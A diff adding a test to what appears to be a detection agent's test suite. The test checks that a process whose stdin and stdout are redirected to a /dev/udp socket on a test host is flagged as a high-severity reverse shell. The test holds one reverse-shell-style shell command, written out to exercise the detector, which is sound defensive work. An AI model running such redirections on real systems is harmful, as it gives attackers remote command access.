@@ -139,6 +139,13 @@ def test_sh_reading_commands_from_a_socket_is_a_reverse_shell(agent: AgentRun, p
     assert rec["process"]["cmdline"] == ["sh"]
 
 
+def test_sleep_on_a_dev_udp_socket_is_a_reverse_shell(agent: AgentRun, pair: Pair) -> None:
+    p = shell(pair, f"exec 0<>/dev/udp/{INET_IP}/9002 1>&0; exec sleep 62")
+    rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), FINDING_TIMEOUT)
+    assert rec["severity"] == "high" and rec["connection"]["proto"] == "udp"
+    assert rec["evidence"]["streams"] == ["stdin", "stdout"]
+
+
 def test_socket_held_on_another_fd_is_a_beacon_not_a_shell(
     agent: AgentRun, pair: Pair, workers: Path
 ) -> None:
